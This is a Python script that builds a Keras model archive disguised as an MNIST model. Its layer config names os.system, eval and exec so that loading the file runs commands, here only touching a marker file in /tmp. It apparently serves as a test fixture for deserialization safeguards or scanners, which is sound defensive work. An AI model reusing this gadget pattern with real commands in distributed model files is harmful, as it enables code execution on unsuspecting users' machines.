"""Configurations that name functions which are no layers."""

import json
import zipfile
from pathlib import Path

INPUT = {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 28, 28, 1]}}


def archive(path: Path, layers: list[dict], **members: bytes) -> None:
    """A .keras file of these layers."""
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [INPUT, *layers]}}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        made.writestr("config.json", json.dumps(config))
        for name, data in members.items():
            made.writestr(name.replace("__", "/"), data)


def make(folder: Path) -> None:
    """Name functions where layers and initializers belong."""
    shout = "open('/tmp/keras_file_with_gadgets-was-here', 'w')"
    layers = [
        {"module": "os", "class_name": "system", "config": {"command": "touch /tmp/keras_file_with_gadgets-was-here"}, "registered_name": "system"},
        {"module": "builtins", "class_name": "eval", "config": shout, "registered_name": "eval"},
        {"module": "keras.layers", "class_name": "Dense", "config": {"units": 10, "activation": {
            "module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}}},
    ]
    archive(folder / "mnist_model.keras", layers)
